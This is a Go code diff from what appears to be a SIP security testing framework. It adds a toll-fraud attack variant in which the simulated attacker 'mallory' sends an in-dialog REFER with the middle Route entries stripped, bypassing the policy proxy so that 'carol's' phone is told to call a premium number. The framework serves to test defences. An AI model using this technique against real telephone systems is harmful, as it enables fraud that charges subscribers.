@@ -14,7 +14,7 @@ import (
 func tollFraud() Attack {
 	controls := []secure.ControlID{secure.CIAuthorizationRoutePolicy}
 	return Attack{
-		ID: "ci.toll.fraud", Number: "CI-32", Title: "calls to a premium number: dialled, by REFER, by redirection",
+		ID: "ci.toll.fraud", Number: "CI-32", Title: "calls to a premium number: dialled, by REFER, by redirection, past whoever judges",
 		Text:     "a stolen subscription, or a telephone that does as it is told, earns money for whoever owns the number, and its owner is charged",
 		Services: []Service{Authentication}, Stride: Elevation, Threats: []Threat{Removal}, Module: ServicesControl,
 		Source: "ITU-T E.156; RFC 3515 5", Access: both(), Premium: true,
@@ -23,6 +23,7 @@ func tollFraud() Attack {
 			{Name: "dial", Position: Subscriber, Controls: controls, Run: dialPremium},
 			{Name: "refer", Position: Subscriber, Controls: controls, Run: referPremium},
 			{Name: "redirect", Position: Subscriber, Controls: controls, Run: redirectPremium},
+			{Name: "shortcut", Position: Subscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}, Run: referPast},
 		},
 	}
 }
@@ -109,6 +110,41 @@ func referPremium(ctx context.Context, f *Field, o *Outcome) error {
 	o.Users = min(asked, 1)
 	o.Peer(asked > 0, "carol's telephone is asked %d of %d times to call %s", asked, times+1, f.Premium)
 	return nil
+}
+
+// referPast asks carol's telephone in a call, by a way that leaves out whoever judges such requests: of the entries in Route there are only those of the edges, to which
+// mallory and carol are known.
+func referPast(ctx context.Context, f *Field, o *Outcome) error {
+	carol, mallory, err := f.carolAndMallory(ctx)
+	if err != nil {
+		return err
+	}
+	inside, _, err := mallory.talksTo(ctx, carol)
+	if err != nil {
+		return err
+	}
+	inside.Method = "REFER"
+	inside.Lines = append(edgesOf(inside.Lines), "Contact: "+mallory.Contact(), "Refer-To: <"+f.Premium+">")
+	answer, err := mallory.Ask(ctx, mallory.Text(inside))
+	if err != nil {
+		return err
+	}
+	asked := answer.Status()/100 == 2
+	if asked {
+		if _, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.REFER }); err != nil {
+			return err
+		}
+		o.Users = 1
+	}
+	o.Arrived("a REFER with %d entries in Route, answered %d", strings.Count(strings.Join(inside.Lines, "\n"), "Route: "), answer.Status())
+	o.Peer(asked, "carol's telephone is asked to call %s: %v", f.Premium, asked)
+	return nil
+}
+
+// edgesOf keeps the lines at both ends of a Route: an edge has one entry in it, or two.
+func edgesOf(route []string) []string {
+	n := len(route) / 3
+	return append(append([]string(nil), route[:n]...), route[len(route)-n:]...)
 }
 
 // redirectPremium sends carol there, who calls mallory.
